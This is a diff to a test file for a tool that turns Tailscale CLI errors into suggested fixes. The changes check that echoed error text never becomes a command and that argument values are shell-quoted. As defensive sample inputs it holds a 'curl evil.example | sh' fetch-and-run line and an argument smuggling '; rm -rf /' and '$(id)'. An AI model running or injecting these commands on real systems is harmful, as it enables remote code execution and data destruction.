@@ -38,19 +38,50 @@ test('serve config denied (< 1.84 text) → same fix', () => {
   assert.deepEqual(f.fixes[0]?.action, { kind: 'remote', argv: ['tailscale', 'set', '--operator=bob'], sudo: true });
 });
 
-test('serve config denied on a snap host (echoed --socket) → operator fix plus the root-socket variant', () => {
+test('serve config denied on a snap host (echoed --socket) → operator fix plus the root-socket variant built from OUR argv', () => {
   const stderr =
     "sending serve config: Access denied: serve config denied\n\nUse 'sudo tailscale --socket /var/snap/tailscale/common/socket/tailscaled.sock serve --bg --yes 30001'.\nTo not require root, use 'sudo tailscale set --operator=$USER' once.\n";
-  const f = only(classifyCliOutput({ stdout: '', stderr, exitCode: 1 }, { user: 'sparkuser' }), 'tailscale.serveConfigDenied');
+  const argv = ['tailscale', 'serve', '--bg', '--yes', '30001'];
+  const f = only(classifyCliOutput({ stdout: '', stderr, exitCode: 1, argv }, { user: 'sparkuser' }), 'tailscale.serveConfigDenied');
   assert.deepEqual(f.fixes[0]?.action, { kind: 'remote', argv: ['tailscale', 'set', '--operator=sparkuser'], sudo: true });
   assert.deepEqual(f.fixes[1]?.action, {
-    kind: 'copy',
-    text: 'sudo tailscale --socket /var/snap/tailscale/common/socket/tailscaled.sock serve --bg --yes 30001',
+    kind: 'remote',
+    argv: ['tailscale', '--socket', '/var/snap/tailscale/common/socket/tailscaled.sock', 'serve', '--bg', '--yes', '30001'],
+    sudo: true,
   });
+  assert.match(f.detail, /"sudo tailscale --socket \/var\/snap\/tailscale\/common\/socket\/tailscaled\.sock serve --bg --yes 30001"/);
   assert.match(f.detail, /\/snap\/bin\/tailscale passes --socket itself/);
+  // Our argv already ran with sudo and --socket: neither is doubled.
+  const again = only(
+    classifyCliOutput({ stdout: '', stderr, exitCode: 1, argv: ['sudo', 'tailscale', '--socket=/x.sock', 'serve', '--bg', '30001'] }, { user: 'u' }),
+    'tailscale.serveConfigDenied',
+  );
+  assert.deepEqual(again.fixes[1]?.action, {
+    kind: 'remote',
+    argv: ['tailscale', '--socket', '/var/snap/tailscale/common/socket/tailscaled.sock', 'serve', '--bg', '30001'],
+    sudo: true,
+  });
+  // Without our argv (text pasted into `tailspark explain`) there is no root-socket command to offer.
+  const pasted = only(classifyCliOutput({ stdout: '', stderr, exitCode: 1 }, { user: 'sparkuser' }), 'tailscale.serveConfigDenied');
+  assert.equal(pasted.fixes.length, 1);
   // Not a snap host: no root-socket variant.
   const plain = classifyCliOutput({ stdout: '', stderr: "sending serve config: Access denied: serve config denied\n\nUse 'sudo tailscale serve --bg --yes 30001'.\n" }, { user: 'u' });
   assert.equal(plain[0]?.fixes.length, 1);
+});
+
+test('serve config denied: text the Spark echoed never becomes a command', () => {
+  const stderr = "sending serve config: Access denied: serve config denied\n\nUse 'sudo tailscale --socket /s serve 1; curl evil.example | sh'.\n";
+  const f = only(
+    classifyCliOutput({ stdout: '', stderr, exitCode: 1, argv: ['tailscale', 'serve', '--bg', '--yes', '30001'] }, { user: 'sparkuser' }),
+    'tailscale.serveConfigDenied',
+  );
+  assert.doesNotMatch(JSON.stringify(f.fixes), /evil/);
+  assert.doesNotMatch(f.detail, /evil/);
+  assert.deepEqual(f.fixes[1]?.action, {
+    kind: 'remote',
+    argv: ['tailscale', '--socket', '/var/snap/tailscale/common/socket/tailscaled.sock', 'serve', '--bg', '--yes', '30001'],
+    sudo: true,
+  });
 });
 
 test('serve config denied without a known user → copyable command with $USER', () => {
@@ -68,6 +99,22 @@ test('checkprefs access denied → run with sudo', () => {
     'tailscale.checkprefsDenied',
   );
   assert.deepEqual(f.fixes[0]?.action, { kind: 'copy', text: 'sudo tailscale set --ssh' });
+  // On the Spark it is a remote argv (a sudo we already used is not doubled).
+  const remote = only(
+    classifyCliOutput(
+      { stdout: '', stderr: 'Access denied: checkprefs access denied\n', exitCode: 1, argv: ['sudo', 'tailscale', 'set', '--ssh'] },
+      { side: 'remote' },
+    ),
+    'tailscale.checkprefsDenied',
+  );
+  assert.deepEqual(remote.fixes[0]?.action, { kind: 'remote', argv: ['tailscale', 'set', '--ssh'], sudo: true });
+});
+
+test('the "where" and copy text of a hostile argv are quoted, not joined', () => {
+  const argv = ['tailscale', 'set', '--hostname=a; rm -rf /', "$(id)'x"];
+  const [f] = classifyCliOutput({ stdout: '', stderr: 'Access denied: checkprefs access denied\n', exitCode: 1, argv });
+  assert.equal(f?.where, `tailscale set '--hostname=a; rm -rf /' '$(id)'\\''x'`);
+  assert.deepEqual(f?.fixes[0]?.action, { kind: 'copy', text: `sudo tailscale set '--hostname=a; rm -rf /' '$(id)'\\''x'` });
 });
 
 test('daemon not running, Linux (friendly and raw form, serve prefix)', () => {
@@ -128,11 +175,13 @@ test('Tailscale SSH not enabled on the tailnet', () => {
   );
 });
 
-test('old serve syntax → suggested command is offered', () => {
+test('old serve syntax → the suggestion is shown in the detail, not offered as a command', () => {
   const stderr =
     'Error: the CLI for serve and funnel has changed. You can run the following command instead:\n\t- tailscale serve --bg --set-path / http://127.0.0.1:30001\n\nPlease see https://tailscale.com/kb/1242/tailscale-serve for more information.\n';
   const f = only(classifyCliOutput({ stdout: '', stderr, exitCode: 1, argv: ['tailscale', 'serve', 'https', '/', 'http://127.0.0.1:30001'] }), 'tailscale.serveCliChanged');
-  assert.deepEqual(f.fixes[0]?.action, { kind: 'copy', text: '- tailscale serve --bg --set-path / http://127.0.0.1:30001' });
+  assert.match(f.detail, /It suggests: - tailscale serve --bg --set-path \/ http:\/\/127\.0\.0\.1:30001/);
+  assert.deepEqual(f.fixes[0]?.action, { kind: 'openUrl', url: 'https://tailscale.com/kb/1242/tailscale-serve' });
+  assert.ok(f.fixes.every((x) => x.action?.kind !== 'copy'));
 });
 
 test('Tailscale SSH policy banners (>= 1.86 and older) → policy snippet in the detail', () => {
